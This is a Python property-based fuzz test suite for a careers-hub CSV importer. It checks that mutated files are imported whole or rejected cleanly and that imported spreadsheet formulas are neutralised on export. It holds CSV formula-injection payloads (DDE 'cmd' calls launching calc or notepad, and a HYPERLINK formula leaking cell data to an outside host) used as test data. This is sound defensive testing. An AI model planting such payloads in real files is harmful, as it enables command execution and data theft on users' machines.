"""Bad input at scale: for every import kind, hypothesis writes valid files and then mutates them
(random and binary bytes, huge and deeply quoted cells, spreadsheet formulas, NUL bytes, wrong cell
counts, Latin-1, mixed line endings, byte-order marks, broken headers). Every import either records
the whole file or raises ImportRejected, and a rejected file leaves the store exactly as it was.
Formulas that are imported come out of every CSV export neutralised.

Repeatable: derandomized, no example database. CAREERHUB_FUZZ_EXAMPLES sets examples per kind."""
from __future__ import annotations

import csv
import io
import os
from collections import Counter
from collections.abc import Callable, Iterator
from datetime import date, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from config.settings import load_settings
from engine.errors import ImportRejected
from engine.importing.importer import natural_key, rows_by_key
from engine.importing.parsing import read_rows
from engine.importing.schema import SCHEMAS, Column, KindSchema
from engine.records import RECORD_CLASSES
from projections.report import Query
from service.export import csv_text, export_bundle, formula_safe
from service.hub import HubService
from tests.robustness.conftest import csv_bytes, report
from web.exports import safe_cell

EXAMPLES = int(os.environ.get("CAREERHUB_FUZZ_EXAMPLES", "120"))
FUZZ = settings(max_examples=EXAMPLES, derandomize=True, database=None, deadline=None,
                suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large,
                                       HealthCheck.function_scoped_fixture])
HUB, URNS, ADVISER = "dorset", ("100001", "100002"), "EA-1"
FORMULAS = ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "=1+1", "\t=1+1", "\r=1+1", "=2*5+cmd|' /C notepad'!'A1'")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# --- the store -----------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hub(tmp_path_factory: pytest.TempPathFactory) -> Iterator[HubService]:
    """A store that knows hub dorset, institutions 100001 and 100002 and adviser EA-1 (SQLite)."""
    folder = tmp_path_factory.mktemp("fuzz")
    service = HubService(load_settings(f"sqlite:///{folder}/careerhub.sqlite3", "fuzzer"))
    given = [
        ("hubs", ["hub_id", "name", "area", "started_on"], [[HUB, "Dorset Careers Hub", "Dorset", "2019-09-01"]]),
        ("institutions", ["urn", "name", "kind", "area", "hub_id", "hub_joined_on", "ean_joined_on"],
         [[u, f"School {u}", "school", "Dorset", HUB, "2019-09-01", "2019-09-01"] for u in URNS]),
        ("advisers", ["adviser_ref", "name", "capacity"], [[ADVISER, "Ada Byron", "3"]]),
    ]
    for kind, header, rows in given:
        service.import_file(kind, Path(f"given-{kind}.csv"), "setup", data=csv_bytes(header, rows))
    yield service
    service.close()


# --- valid files ---------------------------------------------------------------------------------

TEXT = st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp")), min_size=1,
               max_size=12).filter(lambda s: s.strip() != "")
LIST_ITEM = TEXT.filter(lambda s: ";" not in s and s.strip() != "")
DAYS = st.dates(date(2015, 1, 1), date(2030, 12, 31))
REFERENCED = {"hub_id": st.just(HUB), "adviser_ref": st.just(ADVISER), "urn": st.sampled_from(URNS)}
OWN_KEYS = {("hubs", "hub_id"), ("institutions", "urn"), ("advisers", "adviser_ref")}


def number_text(column: Column, integral: bool) -> st.SearchStrategy[str]:
    low = column.minimum if column.minimum is not None else -1000
    high = column.maximum if column.maximum is not None else 100000
    if integral:
        return st.integers(int(low), int(high)).map(str)
    return st.floats(low, high, allow_nan=False, allow_infinity=False).map(repr)


def cell(kind: str, column: Column) -> st.SearchStrategy[str]:
    """Text of a valid cell of this column."""
    if column.name in REFERENCED and (kind, column.name) not in OWN_KEYS:
        return REFERENCED[column.name]
    if column.choices:
        return st.sampled_from(column.choices)
    return {
        "text": TEXT,
        "date": DAYS.map(date.isoformat),
        "academic_year": st.integers(2015, 2030).map(lambda y: f"{y}/{(y + 1) % 100:02d}"),
        "bool": st.sampled_from(("true", "false", "yes", "no", "1", "0", "TRUE")),
        "percent": st.integers(0, 100).map(str),
        "int": number_text(column, True),
        "float": number_text(column, False),
        "list": st.lists(LIST_ITEM, min_size=1, max_size=3).map(";".join),
        "int_list": st.lists(st.integers(1, 14), min_size=1, max_size=3).map(lambda xs: ";".join(map(str, xs))),
    }[column.type]


@st.composite
def valid_row(draw: st.DrawFn, kind: str, schema: KindSchema) -> dict[str, str]:
    row: dict[str, str] = {}
    for column in schema.columns:
        if column.name == "conflicts":
            row[column.name] = draw(st.sampled_from(("", *URNS, ";".join(URNS))))
        elif column.required:
            row[column.name] = draw(cell(kind, column))
        else:
            row[column.name] = draw(st.one_of(st.just(""), cell(kind, column)))
    if kind == "funding":
        row["applicant"] = draw(st.sampled_from(URNS)) if row["stream"] == "institutional" else draw(TEXT)
    for start, end in schema.ordered_dates:  # an end never before its start
        if row[start] and row[end]:
            row[end] = (date.fromisoformat(row[start]) + timedelta(days=draw(st.integers(0, 900)))).isoformat()
    return row


@st.composite
def valid_file(draw: st.DrawFn, kind: str) -> tuple[list[str], list[list[str]]]:
    """A header (required columns, some optional ones, in any order) and 1-6 rows."""
    schema = SCHEMAS[kind]
    optional = [c.name for c in schema.columns if not c.required]
    header = [c.name for c in schema.columns if c.required] + draw(st.lists(st.sampled_from(optional), unique=True)) \
        if optional else [c.name for c in schema.columns]
    header = draw(st.permutations(header))
    rows = draw(st.lists(valid_row(kind, schema), min_size=1, max_size=6))
    return header, [[r[name] if name in r else "" for name in header] for r in rows]


# --- mutations -----------------------------------------------------------------------------------

def encoded(header: list[str], rows: list[list[str]], newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def replace_cell(draw: st.DrawFn, header: list[str], rows: list[list[str]], value: str) -> bytes:
    rows = [list(r) for r in rows]
    r, c = draw(st.integers(0, len(rows) - 1)), draw(st.integers(0, len(header) - 1))
    rows[r][c] = value
    return encoded(header, rows).encode()


def splice(draw: st.DrawFn, data: bytes, piece: bytes) -> bytes:
    at = draw(st.integers(0, len(data)))
    return data[:at] + piece + data[at:]


MUTATIONS: dict[str, Callable[[st.DrawFn, list[str], list[list[str]]], bytes]] = {
    "none": lambda draw, h, r: encoded(h, r).encode(),
    "random bytes": lambda draw, h, r: splice(draw, encoded(h, r).encode(), draw(st.binary(min_size=1, max_size=8))),
    "binary file": lambda draw, h, r: draw(st.binary(min_size=0, max_size=300)),
    "huge cell": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from("x9;\"é,")) * draw(
        st.sampled_from((5_000, 131_072, 140_000, 1_000_000)))),
    "deeply quoted cell": lambda draw, h, r: splice(draw, encoded(h, r).encode(), (
        '"' * draw(st.integers(1, 200)) + draw(TEXT) + '"' * draw(st.integers(0, 200))).encode()),
    "formula cell": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(FORMULAS))),
    "NUL byte": lambda draw, h, r: splice(draw, encoded(h, r).encode(), b"\x00" * draw(st.integers(1, 3))),
    "wrong cell count": lambda draw, h, r: encoded(h, [row + [""] * draw(st.integers(1, 2)) if i == 0 else row
                                                        for i, row in enumerate(r)]).encode()
    if draw(st.booleans()) else encoded(h, [row[:-1] if i == len(r) - 1 else row for i, row in enumerate(r)]).encode(),
    "latin-1": lambda draw, h, r: replace_cell(draw, h, r, draw(st.sampled_from(("Bournemouth é", "Café", "Poole £5"))))
    .decode().encode("latin-1", errors="replace"),
    "line endings": lambda draw, h, r: "".join(line + draw(st.sampled_from(("\r\n", "\n", "\r"))) for line in
                                               encoded(h, r).splitlines()).encode(),
    "byte-order mark": lambda draw, h, r: draw(st.sampled_from((b"\xef\xbb\xbf", b"\xef\xbb\xbf\xef\xbb\xbf",
                                                                b"\xff\xfe", b"\xfe\xff"))) + encoded(h, r).encode(),
    "utf-16": lambda draw, h, r: encoded(h, r).encode(draw(st.sampled_from(("utf-16", "utf-16-le")))),
    "broken header": lambda draw, h, r: encoded(draw(st.sampled_from((
        h[1:], h + [h[0]], [f" {n}" for n in h], h + [""], [n.upper() for n in h], h + ["=cmd|' /C calc'!A0"]))),
        r).encode(),
}


@st.composite
def import_file_of(draw: st.DrawFn, kind: str) -> tuple[str, str, bytes]:
    header, rows = draw(valid_file(kind))
    mutation = draw(st.sampled_from(list(MUTATIONS)))
    return mutation, draw(st.sampled_from(("fuzz.csv", "=cmd.csv", "données ü.csv"))), MUTATIONS[mutation](draw, header, rows)


# --- the property --------------------------------------------------------------------------------

TALLY: dict[str, Counter[str]] = {}


def imported_whole_or_not_at_all(service: HubService, kind: str, name: str, data: bytes) -> str:
    """Import, then check the outcome; returns 'recorded', 'unchanged' or 'rejected'."""
    before = service.app.last_position()
    tracked = service.projector.position()
    try:
        summary = service.import_file(kind, Path(name), "fuzzer", data=data)
    except ImportRejected as rejected:
        assert service.app.last_position() == before, "a rejected file changed the store"
        assert service.projector.position() == tracked
        assert name in str(rejected) and "Traceback" not in str(rejected)
        return "rejected"
    rows = read_rows(Path(name), SCHEMAS[kind], data)
    keyed = rows_by_key(Path(name), SCHEMAS[kind], rows)
    assert (summary.rows, summary.recorded + summary.unchanged) == (len(rows), len(rows))
    assert service.app.last_position() - before == summary.recorded
    stored = service.app.load_many(RECORD_CLASSES[kind].id_for(key) for key in keyed)
    for key, row in keyed.items():  # every row is in, with the file's values
        record = stored[RECORD_CLASSES[kind].id_for(key)]
        assert record.values == row.values and not record.retracted, (key, record.values, row.values)
    assert service.projector.position() == service.app.last_position()
    return "recorded" if summary.recorded else "unchanged"


@pytest.mark.parametrize("kind", list(SCHEMAS))
def test_given_a_mutated_file_of_any_kind_then_it_is_imported_whole_or_rejected_with_the_store_unchanged(hub, kind):
    tally = TALLY.setdefault(kind, Counter())

    @FUZZ
    @given(case=import_file_of(kind))
    def property_holds(case: tuple[str, str, bytes]) -> None:
        mutation, name, data = case
        outcome = imported_whole_or_not_at_all(hub, kind, name, data)
        tally[f"{mutation}: {outcome}"] += 1
        tally[outcome] += 1

    property_holds()

    by_mutation = Counter()
    for label, n in tally.items():
        if ":" in label:
            by_mutation[label.split(":")[0]] += n
    report(f"fuzz {kind}: {sum(by_mutation.values())} files, {tally['recorded']} recorded, {tally['unchanged']} "
           f"unchanged (already known), {tally['rejected']} rejected cleanly, other exceptions 0, store changed by "
           f"a rejection 0; valid files recorded {tally['none: recorded'] + tally['none: unchanged']}/"
           f"{by_mutation['none']}; mutations {dict(sorted(by_mutation.items()))}")
    assert tally["none: recorded"] + tally["none: unchanged"] > 0, tally
    assert tally["recorded"] + tally["unchanged"] > 0 and tally["rejected"] > 0


# --- formulas, once imported, are neutralised on the way out -------------------------------------

@st.composite
def institutions_with_formulas(draw: st.DrawFn) -> list[list[str]]:
    """Institutions whose URN, name and cluster may be formulas (the URN made unique within the file)."""
    names = draw(st.lists(st.one_of(st.sampled_from(FORMULAS), TEXT), min_size=1, max_size=5))
    urns = [draw(st.sampled_from(FORMULAS + ("@1", "-7", "+44 1202", "100"))).strip() + f"-{i}"
            for i in range(len(names))]
    return [[urn, name, "school", "Dorset", draw(st.sampled_from(FORMULAS)), HUB, "2019-09-01", "2019-09-01"]
            for urn, name in zip(urns, names, strict=True)]


def shown(cell_text: str) -> bool:
    """A cell a spreadsheet would run as a formula."""
    return cell_text.startswith(FORMULA_START)


def test_given_imported_formulas_when_exported_as_csv_then_no_cell_can_run(hub, tmp_path_factory):
    header = ["urn", "name", "kind", "area", "cluster", "hub_id", "hub_joined_on", "ean_joined_on"]
    columns = ["urn", "name", "cluster", "record_key"]
    formulas: Counter[str] = Counter()

    @FUZZ
    @given(rows=institutions_with_formulas())
    def property_holds(rows: list[list[str]]) -> None:
        try:
            hub.import_file("institutions", Path("=formulas.csv"), "=cmd|' /C calc'!A0", data=csv_bytes(header, rows))
        except ImportRejected:
            return  # e.g. one URN twice with different names: nothing recorded, nothing to export
        formulas.update(c.strip() for r in rows for c in r if shown(c.strip()))
        stored = hub.db.query(f"SELECT {', '.join(columns)} FROM rm_institutions WHERE nid_to IS NULL")
        exported = list(csv.reader(io.StringIO(csv_text(stored, columns))))[1:]
        for row, out in zip(stored, exported, strict=True):
            for column, text in zip(columns, out, strict=True):
                value = "" if row[column] is None else str(row[column])
                assert text == formula_safe(row[column]) == ("'" + value if shown(value) else value)
                assert not shown(text) and not shown(str(safe_cell(row[column])))
        bundle = tmp_path_factory.mktemp("bundle")
        export_bundle(hub, Query(HUB, date(2020, 2, 2)), bundle)
        for name in ("log.csv", "institutions.csv"):
            cells = [c for r in csv.reader(io.StringIO((bundle / name).read_text(encoding="utf-8"))) for c in r]
            assert not [c for c in cells if shown(c)], name

    property_holds()

    report(f"fuzz formulas: {sum(formulas.values())} formula cells imported ({len(formulas)} distinct), each "
           "exported by csv_text/formula_safe, web safe_cell and the audit bundle (log.csv, institutions.csv) "
           "as text, never as a formula")
    assert formulas
